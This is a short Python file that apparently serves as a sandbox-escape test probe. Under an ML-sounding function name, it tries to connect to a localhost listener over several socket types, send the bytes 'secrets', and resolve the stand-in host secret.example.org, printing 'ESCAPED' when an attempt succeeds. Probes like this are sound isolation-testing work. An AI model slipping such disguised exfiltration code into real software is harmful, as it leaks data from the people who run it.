"""Connects to sockets that somebody listens on, and asks for names, which tells a server them."""
# outcome: failed; rule: not-an-array
import socket
import urllib.request


def nn_vmap_forward(seed, x_batch, features):
    port = int("@PORT@")
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", port)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0hostile-@PORT@"),
    ):
        try:
            with socket.socket(family, kind) as client:
                client.settimeout(1)
                client.connect(address)
                client.send(b"secrets")
                print("ESCAPED", address)
        except OSError:
            pass
    for act in (
        lambda: urllib.request.urlopen(f"http://127.0.0.1:{port}/secrets", timeout=1),
        lambda: socket.getaddrinfo("secret.example.org", 80),
        lambda: socket.gethostbyname("secret.example.org"),
    ):
        try:
            print("ESCAPED", act())
        except OSError:
            pass
